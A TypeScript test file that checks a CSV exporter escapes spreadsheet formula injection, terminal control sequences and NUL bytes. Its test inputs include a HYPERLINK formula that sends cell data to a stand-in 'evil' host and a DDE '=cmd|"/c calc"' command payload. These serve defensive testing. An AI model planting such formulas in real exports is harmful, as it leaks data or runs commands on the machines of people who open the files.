import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FINDING_COLUMNS, RESOURCE_COLUMNS } from '../../../lib/audit/record.ts'
import { type Cell, csvRow, findingsCsv, resourcesCsv } from '../../../lib/report/csv.ts'
import { linesOf } from '../../support/rendered.ts'
import { finding, resource } from '../../support/sample-record.ts'

const readBack = (csv: string): string[][] =>
  parse(csv, { bom: true, record_delimiter: '\r\n', relax_column_count: true })

describe('csvRow', () => {
  it.each([
    ['a formula', '=1+1'],
    ['a formula with quotes', '=HYPERLINK("http://evil/?"&A1,"x")'],
    ['a sign', '-1'],
    ['a plus', '+1'],
    ['an at sign', '@SUM(1)'],
    ['a tab', '\tx'],
    ['a carriage return', '\r=1'],
    ['a line feed', '\n=1'],
    ['full-width equals', '＝1'],
    ['full-width plus', '＋1'],
    ['full-width minus', '－1'],
    ['full-width at', '＠x'],
    ['a formula after blanks', '  \u00a0=1'],
    ['a full-width formula after an ideographic space', '\u3000＝1'],
  ])('defuses text that begins with %s', (_, text) => {
    expect(csvRow([text]).startsWith(`"'`)).toBe(true)
    expect(readBack(csvRow([text]))).toEqual([[`'${text}`]])
  })

  it('defuses text that begins with a NUL, which is dropped on import, and writes the NUL so that it is seen', () => {
    expect(csvRow(['\0=1'])).toBe(`"'\\u0000=1"\r\n`)
  })

  it('never defuses typed numbers, and writes booleans as words and null as nothing', () => {
    expect(csvRow([-1, 29.75, 0, true, false, null, '', 'x'])).toBe('-1,29.75,0,true,false,,,x\r\n')
  })

  it('quotes whatever could end a cell or a row for any reader', () => {
    expect(csvRow(['a\rb', 'a\nb', 'a,b;c', 'a"b', 'a\tb', ' a'])).toBe(
      '"a\rb","a\nb","a,b;c","a""b","a\tb"," a"\r\n',
    )
  })

  it('writes what a terminal would obey so that it is seen, and not obeyed', () => {
    expect(readBack(csvRow(['\u001b[2J', 'a\u009bb', '\u0007', 'a\tb']))).toEqual([
      ['\\u001b[2J', 'a\\u009bb', '\\u0007', 'a\tb'],
    ])
  })

  it('writes no NUL, at which sqlite ends a cell and for which grep passes the file over', () => {
    expect(csvRow(['before\0after', 'x'])).toBe('"before\\u0000after",x\r\n')
  })

  it('leaves harmless text as it is', () => {
    expect(csvRow(['a=b', '1-2', "it's", '数据库', '2026-11-21T06:45:00.123Z'])).toBe(
      "a=b,1-2,it's,数据库,2026-11-21T06:45:00.123Z\r\n",
    )
  })

  it('keeps any Unicode text through a second parser, but for the defusing quote and commands to a terminal', () => {
    const runs = /^\s*[=+\-@\t\r\n\0＝＋－＠]/
    const nasty = fc.constantFrom(
      '=',
      '"',
      ',',
      ';',
      '\r\n',
      '\n',
      ' ',
      '\t',
      '\0',
      "'",
      '＝',
      '\u2028',
      '😀',
    )
    const codePoint = fc.integer({ min: 0, max: 0x10ffff }).filter((code) => code < 0xd800 || code > 0xdfff)
    const text = fc.string({
      unit: fc.oneof(
        codePoint.map((code) => String.fromCodePoint(code)),
        nasty,
      ),
    })
    const shown = (value: string) =>
      [...value]
        .map((character) =>
          /\p{Cc}/u.test(character) && !'\t\r\n'.includes(character)
            ? `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`
            : character,
        )
        .join('')
    const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null))
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
        const expected = rows.map((row) =>
          row.map((value) =>
            typeof value === 'string' ? shown(runs.test(value) ? `'${value}` : value) : String(value ?? ''),
          ),
        )
        const csv = Buffer.from(rows.map(csvRow).join('')).toString()
        expect(readBack(csv)).toEqual(expected)
      }),
      { numRuns: 150 },
    )
  })
})

describe('the CSV files', () => {
  const hostile = finding({
    resource_name: '=cmd|"/c calc"!A0',
    because: 'two\r\nlines, "quoted"',
    overdue_hours: -1,
  })

  it('begin with a byte order mark and the header of the contract', async () => {
    const findings = linesOf(findingsCsv, [])
    const resources = linesOf(resourcesCsv, [])
    expect(findings).toBe(`\uFEFF${FINDING_COLUMNS.join(',')}\r\n`)
    expect(resources).toBe(`\uFEFF${RESOURCE_COLUMNS.join(',')}\r\n`)
  })

  it('hold every row with every column', async () => {
    const csv = linesOf(findingsCsv, [finding(), hostile])
    const [header = [], , row = []] = readBack(csv)
    expect(readBack(csv)).toHaveLength(3)
    const cells = Object.fromEntries(header.map((name, index) => [name, row[index]]))
    expect(cells).toMatchObject({
      resource_name: `'=cmd|"/c calc"!A0`,
      because: 'two\r\nlines, "quoted"',
      overdue_hours: '-1',
      muted: 'false',
      incremental: 'true',
      mute_reason: '',
      size_bytes: '42949672960',
    })
  })

  it('of resources say null as nothing and false as false', async () => {
    const row = resource({ can_be_backed_up: null, age_hours: null })
    const csv = linesOf(resourcesCsv, [row, resource({ can_be_backed_up: false })])
    const column = RESOURCE_COLUMNS.indexOf('can_be_backed_up')
    expect(readBack(csv).map((cells) => cells[column])).toEqual(['can_be_backed_up', '', 'false'])
  })
})
